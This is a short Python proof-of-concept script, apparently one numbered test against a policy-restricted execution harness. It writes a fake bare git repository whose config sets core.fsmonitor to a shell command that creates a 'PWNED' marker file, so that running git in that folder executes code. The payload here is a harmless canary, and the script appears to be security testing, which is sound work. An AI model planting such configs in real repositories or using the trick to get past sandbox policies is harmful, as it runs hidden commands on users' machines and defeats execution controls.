import sys,json; sys.path.insert(0,"/work/notes/atk31")
from stdio import *
s=Stdio("/tmp/atk31x/pol.toml")
code='''
import os
for d in ["sub","sub/objects","sub/refs","sub/refs/heads"]: os.makedirs(d,exist_ok=True)
open("sub/HEAD","w").write("ref: refs/heads/main\\n")
open("sub/config","w").write("[core]\\n\\trepositoryformatversion = 0\\n\\tbare = true\\n\\tfsmonitor = \\"touch /tmp/atk31x/PWNED_BARE; false\\"\\n")
'''
print(json.dumps(sc(s.py(code)))[:1500])
